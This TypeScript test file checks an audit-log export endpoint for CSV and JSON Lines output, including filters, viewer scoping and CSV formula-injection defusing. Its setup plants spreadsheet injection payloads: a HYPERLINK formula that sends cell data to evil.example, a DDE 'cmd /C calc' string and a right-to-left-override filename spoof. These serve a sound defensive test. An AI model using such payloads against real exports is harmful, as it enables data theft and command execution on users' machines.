import { randomUUID } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import * as auditList from "@/app/api/v1/audit/route";
import * as auditExport from "@/app/api/v1/audit/export/route";
import * as issuers from "@/app/api/v1/issuers/route";
import * as me from "@/app/api/v1/me/route";
import { appendAuditEvent } from "@/lib/audit/append-audit-event";
import { auditCsvColumns } from "@/lib/audit/audit-export-format";
import { systemActor, type Actor } from "@/lib/auth/actor";
import { getDb } from "@/lib/db/client";
import type { TAuditEvent } from "@/lib/schemas/audit";
import { readCsv } from "@/test/support/audit/read-csv";
import { createTestToken, createTestUser, type TestUser } from "@/test/factories/users";
import { call, problemOf } from "@/test/support/http";

// GET /api/v1/audit/export: the filtered trail, streamed, as CSV or JSON
// Lines, under the audit list's own role and scope.

let operatorToken: string;
let operatorTokenId: string;
let viewer: TestUser;
let viewerToken: string;
let issuerIds: string[] = [];

const strangeNotes =
  'rtl \u202Egnp.exe\u202C, isolate \u2066x\u2069, zero\u200Bwidth, bom \uFEFF, 🔐, "quoted", a,b\r\nnext line \uFFFF';

async function createIssuer(name: string, notes = "", requestId?: string) {
  const response = await call(issuers.POST, {
    method: "POST",
    path: "/api/v1/issuers",
    token: operatorToken,
    headers: requestId ? { "x-request-id": requestId } : {},
    body: {
      name,
      issuerUrl: `https://${randomUUID().slice(0, 8)}.example.com`,
      kind: "generic",
      notes,
    },
  });
  expect(response.status, await response.clone().text()).toBe(201);
  return ((await response.json()) as { id: string }).id;
}

function append(actor: Actor, input: { action: string; requestId?: string; after?: unknown }) {
  return getDb().$transaction((tx) =>
    appendAuditEvent(tx, {
      actor,
      requestId: input.requestId ?? randomUUID(),
      action: input.action,
      entityType: "issuer",
      entityId: null,
      after: input.after,
    }),
  );
}

function exportCall(query: string, token = operatorToken) {
  return call(auditExport.GET, { path: `/api/v1/audit/export?${query}`, token });
}

async function exportJsonl(query: string, token = operatorToken): Promise<TAuditEvent[]> {
  const response = await exportCall(`format=jsonl&${query}`, token);
  expect(response.status, await response.clone().text()).toBe(200);
  const text = await response.text();
  return text === ""
    ? []
    : text
        .split("\n")
        .slice(0, -1)
        .map((line) => JSON.parse(line) as TAuditEvent);
}

async function exportCsv(query: string): Promise<Record<string, string>[]> {
  const response = await exportCall(`format=csv&${query}`);
  expect(response.status).toBe(200);
  const [header = [], ...rows] = readCsv(await response.text());
  expect(header).toEqual([...auditCsvColumns]);
  return rows.map((row) =>
    Object.fromEntries(header.map((name, index) => [name, row[index] ?? ""])),
  );
}

beforeAll(async () => {
  const operator = await createTestUser({ role: "operator" });
  operatorToken = await createTestToken(operator);
  const whoami = await call(me.GET, { path: "/api/v1/me", token: operatorToken });
  operatorTokenId = ((await whoami.json()) as { id: string }).id;
  viewer = await createTestUser({ role: "viewer" });
  viewerToken = await createTestToken(viewer);
  issuerIds = [
    await createIssuer(`export-a-${randomUUID().slice(0, 6)}`),
    await createIssuer(`export-b-${randomUUID().slice(0, 6)}`, strangeNotes),
    // The request id header takes letters, digits and . _ : - so a leading - gets through.
    await createIssuer(`export-c-${randomUUID().slice(0, 6)}`, "", "-1-1-cmd-calc-0"),
  ];
  // A viewer's own action (viewers may diagnose; any audited act will do).
  await append(viewer.actor, { action: "token.diagnose", after: { by: "viewer" } });
  // Labels a spreadsheet would run as formulas, written as an intruder-chosen SSO name could be.
  await append(systemActor('=HYPERLINK("https://evil.example/?d="&A1,"open")'), {
    action: "drift.check",
  });
  await append(systemActor("@SUM(1+1)*cmd|' /C calc'!A0"), { action: "drift.check" });
  await append(systemActor("+1+1"), { action: "drift.check", requestId: "\t=1+1" });
});

describe("GET /api/v1/audit/export", () => {
  it("streams JSON Lines: every event the list shows, newest first, in the list's shape", async () => {
    const response = await exportCall("format=jsonl");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/jsonl; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="fedlens-audit-[\dT-]+\.jsonl"$/,
    );
    expect(response.headers.get("cache-control")).toBe("no-store");
    const exported = await exportJsonl("");
    const listed = await call(auditList.GET, {
      path: "/api/v1/audit?limit=100",
      token: operatorToken,
    });
    const { data } = (await listed.json()) as { data: TAuditEvent[] };
    expect(data.length).toBeGreaterThan(8);
    expect(exported).toEqual(data);
  });

  it("streams CSV with a header row and one RFC 4180 record per event", async () => {
    const response = await exportCall("format=csv");
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(response.headers.get("content-disposition")).toMatch(/\.csv"$/);
    const rows = await exportCsv("");
    const events = await exportJsonl("");
    expect(rows.map((row) => row.seq)).toEqual(events.map((event) => event.seq));
    const created = rows.find((row) => row.entity_id === issuerIds[0]);
    expect(created).toMatchObject({
      action: "issuer.create",
      actor_type: "token",
      actor_id: operatorTokenId,
      actor_role: "operator",
      entity_type: "issuer",
    });
    expect(JSON.parse(created?.after ?? "")).toMatchObject({ id: issuerIds[0] });
    expect(created?.hash).toMatch(/^[0-9a-f]{64}$/);
  });

  it("applies the list's filters: action, entity, actor and time range", async () => {
    const byEntity = await exportJsonl(`entityType=issuer&entityId=${issuerIds[1]}`);
    expect(byEntity.map((event) => [event.action, event.entity.id])).toEqual([
      ["issuer.create", issuerIds[1]],
    ]);
    const creates = await exportCsv("action=issuer.create");
    expect(creates.map((row) => row.entity_id).sort()).toEqual([...issuerIds].sort());
    const byActor = await exportJsonl(`actorId=${operatorTokenId}`);
    expect(byActor).toHaveLength(3);
    const all = await exportJsonl("");
    const pivot = all.find((event) => event.entity.id === issuerIds[1]);
    const since = await exportJsonl(`from=${encodeURIComponent(pivot?.occurredAt ?? "")}`);
    expect(since.map((event) => event.seq)).toEqual(
      all.filter((event) => event.occurredAt >= (pivot?.occurredAt ?? "")).map((e) => e.seq),
    );
    expect(await exportJsonl("from=2001-01-01&to=2001-01-02")).toEqual([]);
  });

  it("starts no cell with a formula character and keeps the defused text readable", async () => {
    const rows = await exportCsv("");
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        expect(cell, `${column} of #${row.seq}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    const labels = rows.map((row) => row.actor_label);
    expect(labels).toEqual(
      expect.arrayContaining([
        `'=HYPERLINK("https://evil.example/?d="&A1,"open")`,
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'+1+1",
      ]),
    );
    const requestIds = rows.map((row) => row.request_id);
    expect(requestIds).toEqual(expect.arrayContaining(["'-1-1-cmd-calc-0", "'\t=1+1"]));
  });

  it("carries bidi controls, zero-width characters, emoji and line breaks through both formats intact", async () => {
    const [event] = await exportJsonl(`entityId=${issuerIds[1]}`);
    expect((event?.after as { notes: string }).notes).toBe(strangeNotes);
    const [row] = await exportCsv(`entityId=${issuerIds[1]}`);
    expect((JSON.parse(row?.after ?? "") as { notes: string }).notes).toBe(strangeNotes);
  });

  it("exports a viewer's own actions only, as the list shows them", async () => {
    const events = await exportJsonl("", viewerToken);
    expect(events.map((event) => [event.action, event.actor.id])).toEqual([
      ["token.diagnose", viewer.user.id],
    ]);
    // Asking for someone else's actions does not widen the scope.
    expect(await exportJsonl(`actorId=${operatorTokenId}`, viewerToken)).toHaveLength(1);
  });

  it.each([
    ["format=xml", "format"],
    ["", "format"],
    ["format=csv&from=yesterday", "from"],
    ["format=csv&cursor=abc", "cursor"],
    ["format=csv&limit=5", "limit"],
  ])("refuses %j with 422 naming %s", async (query, name) => {
    const response = await exportCall(query);
    expect(response.status).toBe(422);
    const problem = await problemOf(response);
    expect(problem.invalid_params?.map((param) => param.name)).toContain(name);
  });

  it("needs a session or an API token", async () => {
    const response = await call(auditExport.GET, { path: "/api/v1/audit/export?format=csv" });
    expect(response.status).toBe(401);
  });
});
